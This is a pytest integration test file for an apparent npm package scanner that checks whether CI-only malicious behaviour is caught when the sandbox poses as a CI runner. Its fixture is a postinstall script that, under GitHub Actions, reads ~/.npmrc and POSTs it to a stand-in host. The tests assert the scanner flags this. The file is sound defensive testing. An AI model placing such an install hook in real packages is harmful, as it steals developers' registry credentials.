"""A package that acts on one kind of machine only is seen where the guest pretends to be that one."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from tests.integration.command_line import Machine
from tests.packages import build
from tests.packages.settled import javascript

pytestmark = [pytest.mark.native, pytest.mark.together]

_IN_CI = javascript(
    """
    if (!process.env.GITHUB_ACTIONS) return;
    const text = fs.readFileSync(`${os.homedir()}/.npmrc`);
    await fetch("https://in.job-rows.test/p", { method: "POST", body: text });
    """,
    home="/home/runner",
)


def test_what_acts_in_ci_only(machine: Machine, tmp_path: Path) -> None:
    files = {"index.js": "", "setup.js": _IN_CI}
    package = build.npm(tmp_path, "job-rows", files, scripts={"postinstall": "node setup.js"})
    ended = machine.run("check", "--format", "json", str(package))
    assert ended.code == 0, ended.stderr
    ended = machine.run("check", "--format", "json", "--persona", "laptop", "--persona", "runner", str(package))
    assert ended.code == 11, ended.stdout
    (report,) = json.loads(ended.stdout)["packages"]
    assert report["coverage"]["personas"] == ["laptop", "runner"]
    assert {one["rule"] for one in report["findings"]} >= {"decoy_sent", "decoy_read_then_egress"}


def test_a_folder_with_scripts_of_its_own_stands_at_the_runners_home(machine: Machine, tmp_path: Path) -> None:
    (tmp_path / "package.json").write_text(
        json.dumps({"name": "made-rows", "version": "1.0.0", "scripts": {"prepare": "node -e 0"}})
    )
    (tmp_path / "index.js").write_text("")
    ended = machine.run("check", "--format", "json", "--persona", "runner", str(tmp_path))
    assert ended.code == 0, ended.stdout
    (report,) = json.loads(ended.stdout)["packages"]
    assert "install:folder" in {phase["name"] for phase in report["coverage"]["phases"]}
